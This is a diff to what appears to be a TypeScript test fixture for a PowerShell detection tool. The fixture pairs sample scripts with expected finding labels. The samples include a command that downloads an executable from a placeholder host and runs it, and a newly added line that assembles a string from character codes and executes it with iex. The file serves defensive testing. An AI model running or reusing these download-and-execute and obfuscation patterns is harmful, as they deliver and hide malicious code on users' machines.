@@ -23,6 +23,7 @@ const FOLLOWED: Readonly<Record<string, readonly [string, readonly string[]]>> =
     "(New-Object Net.WebClient).DownloadFile('http://files.example/a', 'C:\\Users\\Public\\b.exe')\nWrite-Host done\n& 'C:\\Users\\Public\\b.exe'",
     ['runs_what_it_fetched'],
   ],
+  'characters out of numbers': ['$t = -join (9,8 | % { [char]($_ + 60) }); iex $t', ['ps_runs_characters']],
   'another file': [
     'Invoke-WebRequest http://files.example/a.zip -OutFile a.zip\nWrite-Host ok\nStart-Process notepad.exe',
     [],
